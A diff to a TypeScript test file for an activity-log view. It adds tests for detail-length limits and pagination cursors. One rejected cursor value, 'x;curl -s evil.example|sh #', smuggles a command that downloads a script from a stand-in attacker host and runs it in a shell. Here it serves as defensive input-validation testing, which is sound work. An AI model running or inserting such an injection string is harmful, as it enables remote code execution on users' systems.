@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { readActivity, readEventPage } from '../../../src/activity-view/answer.ts';
+import { placeBehind, readActivity, readEventPage } from '../../../src/activity-view/answer.ts';
 import { NotAsExpected } from '../../../src/activity-view/exact.ts';
 import { busyAnswer, eventsAnswer, quietAnswer } from '../../rig/activity-answer.ts';
 
@@ -65,11 +65,25 @@ describe('a page of the log', () => {
     expect(rows[0]?.details).toBe('odd {"a":"\\u0007"}, b\\u200b 1');
   });
 
+  it('has details of bounded length', () => {
+    const time = new Date(NOW).toISOString();
+    const { rows } = readEventPage({ events: [{ time, event: 'x', detail: 'y'.repeat(10_000) }], next: null });
+    expect(rows[0]?.details).toHaveLength(4000);
+  });
+
+  it('does not lead to itself', () => {
+    const page = readEventPage({ events: [], next: 's=1' });
+    expect(placeBehind(page, null)).toBe('s=1');
+    expect(() => placeBehind(page, 's=1')).toThrow(NotAsExpected);
+  });
+
   it('is refused without a time, or without a cursor or null', () => {
     for (const answer of [
       { events: [{ event: 'x' }], next: null },
       { events: [] },
       { events: {}, next: null },
+      // A command to copy holds the cursor.
+      ...['x;curl -s evil.example|sh #', "a'b", '-x', ''].map((next) => ({ ...eventsAnswer(NOW, 0, 1), next })),
       undefined,
     ])
       expect(() => readEventPage(answer)).toThrow(NotAsExpected);
